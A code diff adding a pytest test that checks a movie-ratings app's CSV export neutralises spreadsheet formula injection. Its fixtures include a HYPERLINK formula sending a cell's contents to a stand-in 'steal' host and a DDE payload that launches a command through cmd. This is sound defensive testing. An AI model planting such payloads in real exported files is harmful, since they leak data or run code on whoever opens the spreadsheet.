@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import io
+
+import pandas as pd
 import pyarrow as pa
 import pytest
 
@@ -246,3 +249,23 @@ def test_a_pasted_link_reports_what_it_cannot_use_and_never_echoes_it() -> None:
     assert "too long" in parse_link("r=" + "1:5," * 20_000, ML100K_IDS, "ml-100k").problems[0]
     partly = parse_link("?r=50:5,9999:4,1:9", ML100K_IDS, "ml-100k")
     assert partly.ratings == {50: 5.0} and len(partly.problems) == 2
+
+
+@pytest.mark.parametrize(
+    "title",
+    [
+        '=HYPERLINK("http://x/steal?x="&A1,"Click")',
+        "+SUM(1+1)*cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)",
+        "\tTab",
+        "\rReturn",
+    ],
+)
+def test_a_downloaded_csv_never_holds_a_formula(title: str) -> None:
+    data = profile_to_csv({50: 5.0}, {50: title}).decode()
+    cell = pd.read_csv(io.StringIO(data), dtype=str, keep_default_na=False)["title"][0]
+    assert cell == "'" + title.replace("\r", " ")  # shown as text, the row whole
+    assert profile_from_csv(data.encode(), KNOWN).ratings == {50: 5.0}
+    plain = profile_to_csv({50: 5.0}, {50: "Star Wars (1977)"}).decode()
+    assert "Star Wars (1977)" in plain and "'Star" not in plain
